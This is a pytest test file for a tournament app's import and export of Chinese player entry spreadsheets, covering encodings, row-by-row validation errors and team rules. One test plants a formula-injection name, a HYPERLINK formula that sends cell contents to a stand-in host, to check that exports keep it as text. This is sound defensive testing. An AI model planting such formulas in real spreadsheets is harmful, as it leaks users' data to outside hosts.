"""Import entries from .xlsx/.csv (all or nothing, row-by-row report) and export to .xlsx."""
import datetime as dt
import io

import pytest
from openpyxl import Workbook, load_workbook

from scoring.profile_store import latest_profile
from tournament.entries.spreadsheets import (
    ImportFailed,
    RowError,
    export_entries,
    export_results,
    export_schedule,
    import_entries,
    import_template,
)
from tournament.models import Event, Match, Round, Stage

HEADER = ["单位", "对名", "选手1", "性别1", "电话1", "选手2", "性别2", "电话2", "种子", "队伍", "候补"]
GOOD = [
    ["甲", "甲一队", "张三", "男", "13800000001", "李四", "女", "", 1, "", ""],
    ["甲", "甲二队", "王五", "男", "", "赵六", "男", "", "", "", "否"],
    ["乙", "乙一队", "钱七", "女", "", "孙八", "女", "", 2, "", ""],
]


@pytest.fixture
def event(db):
    day = dt.date(2026, 12, 5)
    return Event.objects.create(slug="imp", name="imp", start_date=day, end_date=day,
                                profile=latest_profile("shenzhen-community"))


def xlsx(rows, header=HEADER):
    book = Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_bytes(rows, header=HEADER, encoding="utf-8"):
    lines = [",".join(str(c) for c in header)] + [",".join(str(c) for c in row) for row in rows]
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def failed(event, raw, filename):
    with pytest.raises(ImportFailed) as info:
        import_entries(event, raw, filename)
    return info.value.errors


def test_good_xlsx_imports_every_row(event):
    pairs = import_entries(event, xlsx(GOOD), "报名.xlsx")
    assert [p.name for p in pairs] == ["甲一队", "甲二队", "乙一队"]
    first = event.pairs.get(name="甲一队")
    assert (first.seed, first.player1.phone, first.player2.gender) == (1, "13800000001", "F")
    assert event.units.count() == 2 and event.players.count() == 6


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk"])
def test_good_csv_in_utf8_bom_and_gbk(event, encoding):
    import_entries(event, csv_bytes(GOOD, encoding=encoding), "entries.csv")
    assert sorted(event.pairs.values_list("name", flat=True)) == ["乙一队", "甲一队", "甲二队"]
    assert event.pairs.get(name="乙一队").player1.name == "钱七"


def test_english_headers_accepted(event):
    header = ["Unit", "Pair", "Player1", "Gender1", "Phone1", "Player2", "Gender2", "Phone2", "Seed", "Team",
              "Reserve"]
    import_entries(event, xlsx([["A", "A1", "Tom", "M", "", "Ann", "F", "", "", "", "no"]], header), "e.xlsx")
    assert event.pairs.get().player2.gender == "F"


def test_two_bad_rows_both_reported_and_nothing_saved(event):
    rows = GOOD + [
        ["丙", "丙一队", "周九", "X", "", "吴十", "男", "", "", "", ""],        # row 5: bad gender
        ["丁", "丁一队", "张三", "男", "13800000001", "郑一", "男", "", "", "", ""],  # row 6: 张三 in 甲一队
    ]
    errors = failed(event, xlsx(rows), "e.xlsx")
    assert errors == [
        RowError(5, "性别1", "性别只能填“男”或“女”，收到“X”"),
        RowError(6, "选手1", "选手“张三”已代表单位“甲”报名，不能再代表“丁”"),
    ]
    assert event.pairs.count() == 0 and event.players.count() == 0 and event.units.count() == 0


def test_duplicate_rows_inside_one_file(event):
    errors = failed(event, csv_bytes(GOOD + [GOOD[0]]), "e.csv")
    assert [(e.row, e.column) for e in errors] == [(5, "对名")]
    assert event.pairs.count() == 0


def test_row_errors_name_every_bad_cell(event):
    errors = failed(event, xlsx([["", "x", "", "男", "", "李四", "?", "", "a", "", "也许"]]), "e.xlsx")
    assert {(e.row, e.column) for e in errors} == {(2, "单位"), (2, "选手1"), (2, "性别2"), (2, "种子"), (2, "候补")}


def test_unknown_and_missing_columns(event):
    errors = failed(event, xlsx([["甲", "张三"]], header=["单位", "姓名"]), "e.xlsx")
    assert errors[0] == RowError(1, "姓名", "无法识别的列“姓名”")
    assert errors[1].message == "缺少必填列：选手1、性别1、选手2、性别2"


def test_wrong_file_type_and_damaged_xlsx(event):
    assert failed(event, b"hello", "e.txt")[0].message == "只能导入 .xlsx 或 .csv 文件"
    assert "无法打开" in failed(event, b"not a zip", "e.xlsx")[0].message


def test_team_rule_checked_after_all_rows(db):
    day = dt.date(2026, 12, 5)
    union = Event.objects.create(slug="u", name="u", start_date=day, end_date=day,
                                 profile=latest_profile("union-games"))
    rows = [["甲", f"甲{i}", f"男{i}a", "男", "", f"男{i}b", "男" if i else "女", "", "", "甲队", ""]
            for i in range(2)]
    errors = failed(union, xlsx(rows), "e.xlsx")
    message = ("队伍“甲队”需要3对正选（其中1对女子）和1对候补："
               "正选只有2对，缺少1对；缺少女子对；缺少候补对（需要1对，现有0对）")
    assert errors == [RowError(n, "队伍", message) for n in (2, 3)]
    assert union.pairs.count() == 0 and union.teams.count() == 0


def test_exported_entries_reimport(event):
    import_entries(event, xlsx(GOOD), "e.xlsx")
    event.pairs.filter(name="甲二队").update(status="withdrawn")  # (services tested elsewhere)
    raw = export_entries(event)
    sheet = load_workbook(io.BytesIO(raw))["报名"]
    assert [c.value for c in sheet[1]] == HEADER + ["状态"]
    rows = {r[1]: r for r in sheet.iter_rows(min_row=2, values_only=True)}
    assert rows["甲一队"] == ("甲", "甲一队", "张三", "男", "13800000001", "李四", "女", None, 1, None, "否", "正常")
    assert rows["甲二队"][-1] == "已退赛"
    day = dt.date(2026, 12, 6)
    other = Event.objects.create(slug="imp2", name="imp2", start_date=day, end_date=day, profile=event.profile)
    import_entries(other, raw, "back.xlsx")
    assert sorted(other.pairs.values_list("name", flat=True)) == ["乙一队", "甲一队"]  # withdrawn row skipped


def test_export_schedule_and_results_read_matches_as_stored(event):
    import_entries(event, xlsx(GOOD), "e.xlsx")
    a, b, c = event.pairs.order_by("name")
    stage = Stage.objects.create(event=event, order=1, kind="round_robin", name="小组赛")
    r1 = Round.objects.create(stage=stage, number=1)
    Match.objects.bulk_create([  # rows as another layer stored them (no signals: this tests the export only)
        Match(round=r1, table=2, ns=a, ew=b, profile=event.profile, status="finished", winner=b,
              ns_level="5", ew_level="A"),
        Match(round=r1, table=1, ns=c, ew=None, ew_source="W:R1-M3", profile=event.profile),
    ])
    schedule = load_workbook(io.BytesIO(export_schedule(event))).active
    assert [c.value for c in schedule[1]] == ["阶段", "轮次", "小组", "桌号", "南北", "东西", "状态"]
    assert [c.value for c in schedule[2]][:6] == ["小组赛", "第1轮", None, 1, c.name, "第1轮第3场胜者"]   # in words
    results = load_workbook(io.BytesIO(export_results(event))).active
    row = [c.value for c in results[3]]
    assert row[3:6] == [2, a.name, b.name] and row[7:10] == [b.name, "5", "A"]


def test_import_template_is_importable(event):
    """Its headers are read; its example row, left in, is refused (issue 13), an edited one imports."""
    with pytest.raises(ImportFailed) as refused:
        import_entries(event, import_template(), "template.xlsx")
    assert "示例行" in refused.value.errors[0].message and not event.pairs.exists()
    book = load_workbook(io.BytesIO(import_template()))
    book.worksheets[0]["C2"] = "周九"
    out = io.BytesIO()
    book.save(out)
    import_entries(event, out.getvalue(), "template.xlsx")
    assert event.pairs.get().name == "示例一队"


def test_exported_names_that_look_like_formulas_stay_text(event):
    import_entries(event, xlsx(GOOD), "e.xlsx")
    event.pairs.filter(name="甲一队").update(name='=HYPERLINK("http://x/?"&A2,"点此")')
    book = load_workbook(io.BytesIO(export_entries(event)))
    cells = [c for row in book.worksheets[0].iter_rows() for c in row if str(c.value).startswith("=HYPERLINK")]
    assert cells and all(c.data_type == "s" for c in cells)
